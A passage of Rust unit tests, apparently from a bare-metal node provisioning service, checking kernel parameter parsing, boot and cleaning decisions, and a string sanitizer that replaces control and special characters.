    assert_eq!(parse_kernel_params("a=1  b=x=y c="), Ok(vec![("a".into(), "1".into()), ("b".into(), "x=y".into()), ("c".into(), "".into())]));
}

#[test]
fn decisions_describe_themselves() {
    let s = settings();
    let d = decide_node(&agent_node(ProvisionState::CleanWait), &s);
    assert_eq!((d.kind(), d.node(), d.reason()), ("cleaning", Some(UUID), None));
    let d = decide(&mac(), Known::Unknown { inspection_pending: false }, &s);
    assert_eq!((d.kind(), d.node()), ("local boot", None));
    assert_eq!(sanitize("a\nb$c\u{e9}"), "a?b?c?");
}
